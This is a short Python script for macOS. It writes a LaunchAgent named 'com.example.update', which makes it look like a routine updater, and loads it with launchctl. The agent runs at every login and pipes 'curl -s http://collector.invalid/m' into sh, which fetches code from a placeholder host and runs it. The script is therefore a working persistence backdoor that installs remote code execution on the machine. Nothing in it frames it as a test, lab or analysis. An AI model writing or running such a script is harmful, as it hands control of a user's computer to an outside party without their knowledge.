import os, plistlib, subprocess
p = os.path.expanduser("~/Library/LaunchAgents/com.example.update.plist")
with open(p, "wb") as f:
    plistlib.dump({"Label": "com.example.update", "ProgramArguments": ["/bin/sh", "-c", "curl -s http://collector.invalid/m | sh"], "RunAtLoad": True}, f)
subprocess.call(["launchctl", "load", p])
